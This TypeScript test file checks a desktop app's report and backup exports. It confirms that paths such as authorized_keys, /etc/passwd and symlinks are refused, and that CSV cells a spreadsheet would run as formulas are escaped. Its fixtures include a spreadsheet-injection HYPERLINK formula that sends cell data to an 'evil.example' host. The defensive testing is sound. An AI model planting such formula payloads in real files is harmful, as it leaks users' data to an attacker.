import { lstat, mkdir, mkdtemp, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handlers } from '../src/main/api/handlers/index';
import { createLocalHandlers } from '../src/main/api/local';
import { createDispatcher, type Dispatcher } from '../src/main/api/registry';
import type { DesktopPort } from '../src/main/desktop/dialogs';
import { DialogGrants } from '../src/main/desktop/fileGate';
import type { Session } from '../src/main/db/session';
import { createTestDb, type TestDb } from './support/db';

let db: TestDb;
let dir: string;
let auditor: Session;
let userId: number;
let scanId: number;

async function ok<T>(p: Promise<{ ok: true; data: T } | { ok: false; error: { message: string } }>) {
  const r = await p;
  if (!r.ok) throw new Error(r.error.message);
  return r.data;
}

/** A window's dispatcher: a desktop whose save dialog answers `answers` in turn. */
function windowDispatcher(
  answers: Array<string | null>,
  session: () => Session = () => auditor,
): { dispatch: Dispatcher; shown: string[] } {
  const shown: string[] = [];
  const desktop: DesktopPort = {
    saveFile: () => Promise.resolve(answers.shift() ?? null),
    openFile: () => Promise.resolve(null),
    showInFolder: (p) => (shown.push(p), Promise.resolve()),
  };
  const grants = new DialogGrants(join(dir, 'home'));
  const dispatch = createDispatcher(
    handlers,
    session,
    createLocalHandlers({ desktop: grants.wrap(desktop) }),
    grants.gate(),
  );
  return { dispatch, shown };
}

const mode = async (path: string) => (await stat(path)).mode & 0o777;
const scanCsv = (path: string, extra: object = {}) => ({
  report: 'scan' as const,
  format: 'csv' as const,
  path,
  scanId,
  ...extra,
});

beforeAll(async () => {
  db = await createTestDb();
  dir = await mkdtemp(join(tmpdir(), 'pk-files-'));
  auditor = (await db.loginAs('auditor')).session;
  userId = 4_100_000;
  await db.knex('users').insert({ id: userId, email: 'formula@example.test', name: 'Formula' });
  for (const description of ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '@SUM(A1)', '-2+3'])
    await ok(db.call('points.earn', { userId, points: 10, description }));
  scanId = (await ok(db.call('audit.scan', {}))).scanId;
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
  await db.close();
});

describe('files a window asks for', () => {
  it('an auditor cannot overwrite authorized_keys by sending its path', async () => {
    const ssh = join(dir, '.ssh');
    await mkdir(ssh, { recursive: true });
    const keys = join(ssh, 'authorized_keys');
    await writeFile(keys, 'ssh-ed25519 AAAA the-owner\n');
    const { dispatch } = windowDispatcher([]);
    for (const path of [keys, join(ssh, 'authorized_keys.csv')]) {
      const r = await dispatch('report.export', scanCsv(path, { overwrite: true }));
      expect(r).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    }
    expect(await readFile(keys, 'utf8')).toBe('ssh-ed25519 AAAA the-owner\n');
    expect(await readdir(ssh)).toEqual(['authorized_keys']);
  });

  it('writes where the save dialog pointed, owner-only, with the format’s extension', async () => {
    const chosen = join(dir, 'chosen.csv');
    const { dispatch, shown } = windowDispatcher([chosen, join(dir, 'report.pdf')]);
    expect(await dispatch('dialog.saveFile', { title: 'Save report' })).toEqual({
      ok: true,
      data: { path: chosen },
    });
    await ok(dispatch('report.export', scanCsv(chosen)));
    expect(await mode(chosen)).toBe(0o600);
    // Writing over it again needs a confirmation the dialog did not give (the file was new then).
    expect(await dispatch('report.export', scanCsv(chosen))).toMatchObject({
      ok: false,
      error: { code: 'CONFLICT' },
    });
    await ok(dispatch('report.export', scanCsv(chosen, { overwrite: true })));
    // A PDF path chosen for a CSV report is refused.
    await ok(dispatch('dialog.saveFile', { title: 'Save report' }));
    expect(await dispatch('report.export', scanCsv(join(dir, 'report.pdf')))).toMatchObject({
      ok: false,
      error: { code: 'VALIDATION', message: expect.stringMatching(/must end in \.csv/) },
    });
    // Only a file the dialogs gave can be shown in its folder.
    await ok(dispatch('shell.showInFolder', { path: chosen }));
    expect(await dispatch('shell.showInFolder', { path: '/etc/passwd' })).toMatchObject({
      ok: false,
      error: { code: 'FORBIDDEN' },
    });
    expect(shown).toEqual([chosen]);
  });

  it('a restore from a window cannot put its safety backup in a folder it names', async () => {
    const admin = (await db.loginAs('admin')).session;
    const { dispatch } = windowDispatcher([], () => admin);
    const r = await dispatch('backup.restore.apply', {
      path: join(dir, 'x.ndjson'),
      mode: 'merge',
      safetyDir: join(dir, '.ssh'),
    });
    expect(r).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
  });
});

describe('files the command line writes', () => {
  it('never replaces an existing file without --overwrite, nor writes through a symbolic link', async () => {
    const existing = join(dir, 'existing.csv');
    await writeFile(existing, 'keep me');
    expect(await db.call('report.export', scanCsv(existing))).toMatchObject({
      ok: false,
      error: { code: 'CONFLICT' },
    });
    expect(await readFile(existing, 'utf8')).toBe('keep me');
    const victim = join(dir, 'victim.txt');
    await writeFile(victim, 'victim');
    const link = join(dir, 'link.csv');
    await symlink(victim, link);
    expect(await db.call('report.export', scanCsv(link, { overwrite: true }))).toMatchObject({
      ok: false,
      error: { code: 'VALIDATION' },
    });
    expect(await readFile(victim, 'utf8')).toBe('victim');
    expect((await lstat(link)).isSymbolicLink()).toBe(true);
    await ok(db.call('report.export', scanCsv(existing, { overwrite: true })));
    expect(await readFile(existing, 'utf8')).not.toBe('keep me');
    expect(await mode(existing)).toBe(0o600);
  });

  it('refuses an extension that does not match the format', async () => {
    expect(await db.call('report.export', scanCsv(join(dir, 'notes.txt')))).toMatchObject({
      ok: false,
      error: { code: 'VALIDATION' },
    });
    expect(await db.call('backup.export', { scope: 'full', path: join(dir, 'b.csv') })).toMatchObject({
      ok: false,
      error: { code: 'VALIDATION', message: expect.stringMatching(/\.ndjson/) },
    });
  });

  it('backups are owner-only', async () => {
    const path = join(dir, 'b.ndjson');
    await ok(db.call('backup.export', { scope: { userIds: [userId] }, path }));
    expect(await mode(path)).toBe(0o600);
    expect(await db.call('backup.export', { scope: 'full', path })).toMatchObject({
      ok: false,
      error: { code: 'CONFLICT' },
    });
  });

  it('escapes cells a spreadsheet would run as formulas', async () => {
    const path = join(dir, 'statement.csv');
    await ok(
      db.call('report.export', {
        report: 'statement',
        format: 'csv',
        path,
        userId,
        from: '2000-01-01T00:00:00Z',
        to: new Date(Date.now() + 60_000).toISOString(),
      }),
    );
    const text = await readFile(path, 'utf8');
    expect(text).toContain(`'=HYPERLINK(`);
    expect(text).toMatch(/,'\+1\+1,/);
    expect(text).toMatch(/,'@SUM\(A1\),/);
    expect(text).toMatch(/,'-2\+3,/);
    expect(text).not.toMatch(/,=HYPERLINK/);
    expect(text).not.toMatch(/,"=HYPERLINK/);
  });
});
